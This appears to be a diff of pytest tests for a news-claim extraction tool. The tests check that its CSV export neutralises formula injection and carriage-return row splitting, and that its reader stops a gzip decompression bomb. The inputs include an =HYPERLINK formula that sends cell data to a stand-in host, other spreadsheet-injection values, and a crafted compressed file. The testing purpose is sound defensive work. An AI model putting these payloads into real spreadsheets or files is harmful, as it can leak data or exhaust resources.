@@ -34,7 +34,8 @@ def fake_extract(self: Extractor, article) -> list:
         return []
     flow = Flow.model_validate({"from": "RUS", "to": "UKR", "category": "pows",
                                 "count": {"value": 12, "min": 12, "max": 12, "qualifier": "exact"}})
-    return [ExchangeRecord(doc_id=article.id, claim_id=f"{article.id}#1", status="completed", flows=(flow,))]
+    return [ExchangeRecord(doc_id=article.id, claim_id=f"{article.id}#1", status="completed", flows=(flow,),
+                           outlet=article.outlet, url=article.url)]
 
 
 @pytest.fixture(autouse=True)
@@ -325,3 +326,104 @@ def test_row12_damaged_part_is_redone(tmp_path: Path) -> None:
     part.write_bytes(bytes(data))
     assert invoke("extract", src, "-o", out, "--force").exit_code == 0
     assert out.read_bytes() == good
+
+
+# row 8: CSV cells neutralised and quoted
+
+def test_row8_csv_export_formula_and_bare_cr(tmp_path: Path) -> None:
+    import csv
+
+    src = tmp_path / "a.jsonl"
+    src.write_text(jl(
+        {"id": "f1", "text": f"Chile and Peru exchanged 12 prisoners. {MARK}", "published": "2024-03-02",
+         "outlet": '=HYPERLINK("http://x.example/?"&A1,"click")', "url": "https://a.example/1"},
+        {"id": "f2", "text": f"Chile and Peru exchanged 12 prisoners. {MARK}", "published": "2024-03-02",
+         "outlet": "@Daily", "url": "https://b.example/2\r=1+2,forged"}))
+    claims, store, out = tmp_path / "c.jsonl", tmp_path / "s.sqlite", tmp_path / "events.csv"
+    assert invoke("extract", src, "-o", claims).exit_code == 0
+    assert invoke("reconcile", claims, "--store", store, "-o", tmp_path / "ev.jsonl").exit_code == 0
+    result = invoke("export", store, "--format", "csv", "-o", out)
+    assert result.exit_code == 0, result.output
+    with out.open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert len(rows) == 1  # the CR did not split the row
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    assert "'=HYPERLINK(" in rows[0]["sources"] or rows[0]["sources"].startswith("'")
+    assert "\r=1+2,forged" in rows[0]["source_urls"]
+
+
+@pytest.mark.parametrize("value, cell", [
+    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
+    ("a\rb", '"a\rb"'), ('say "hi"', '"say ""hi"""'), ("a,b", '"a,b"'), ("plain", "plain"), (None, ""),
+    (-5, "-5"), (3, "3"), ("\r=cmd", "\"'\r=cmd\""),
+])
+def test_row8_csv_cell(value: object, cell: str) -> None:
+    from extractor.exporting.cells import csv_cell
+
+    assert csv_cell(value) == cell
+
+
+# rows 6 and 7: WARC files
+
+def _warc(path: Path, *, gz: bool) -> list[int]:
+    """A warcinfo record and three HTML responses; the byte offset where each record ends."""
+    import io
+
+    pytest.importorskip("warcio")
+    from warcio.statusandheaders import StatusAndHeaders
+    from warcio.warcwriter import WARCWriter
+
+    ends = []
+    with path.open("wb") as fh:
+        writer = WARCWriter(fh, gzip=gz)
+        writer.write_record(writer.create_warcinfo_record(path.name, {"software": "tests"}))
+        ends.append(fh.tell())
+        for n in range(3):
+            body = f"<html><head><title>Town{n}</title></head><body><p>Prisoners were exchanged in Town{n}.</p></body></html>"
+            headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.0")
+            writer.write_record(writer.create_warc_record(f"https://t.example/{n}", "response",
+                                                          payload=io.BytesIO(body.encode()), http_headers=headers))
+            ends.append(fh.tell())
+    return ends
+
+
+@pytest.mark.parametrize("gz", [False, True])
+def test_row7_warc_cut_at_every_byte(tmp_path: Path, gz: bool) -> None:
+    """Cut anywhere: never an exception, and every response the cut reaches into is either read or
+    reported (E405); only a cut in a record's closing line breaks (or gzip trailer), with its
+    content whole, reads the record silently."""
+    full = tmp_path / ("full.warc.gz" if gz else "full.warc")
+    ends = _warc(full, gz=gz)
+    data = full.read_bytes()
+    cut = tmp_path / ("cut.warc.gz" if gz else "cut.warc")
+    silent = []
+    for n in range(1, len(data)):
+        cut.write_bytes(data[:n])
+        items = list(read_inputs([cut], options=ReadOptions()))
+        read = sum(isinstance(i, ArticleItem) for i in items)
+        errors = [i for i in items if isinstance(i, ErrorItem)]
+        assert all(e.code == "E405" for e in errors), (n, errors)
+        whole = sum(1 for end in ends[1:] if end <= n)
+        started = sum(1 for end in ends[:-1] if end < n)  # responses the cut reaches into
+        if errors:
+            assert read <= started
+            continue
+        if n not in ends:
+            silent.append(n)
+            assert read >= started or read == whole + (1 if started > whole else 0), n
+    closing = 12 if gz else 4  # bytes after the content: CRLF CRLF, or the gzip member's trailer
+    assert all(any(0 < end - n <= closing + 8 for end in ends) for n in silent), silent
+
+
+def test_row6_warc_gz_bomb_is_stopped(tmp_path: Path) -> None:
+    import zlib
+
+    line = b"WARC/1.0\r\nWARC-Type: warcinfo\r\nX-Pad: " + b" " * (24 * 1024 * 1024)
+    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
+    path = tmp_path / "bomb.warc.gz"
+    path.write_bytes(comp.compress(line) + comp.flush())
+    options = ReadOptions(gzip_ratio_floor=1024 * 1024, max_gzip_ratio=200)
+    items = list(read_inputs([path], options=options))
+    assert [i.code for i in items if isinstance(i, ErrorItem)] == ["E012"]
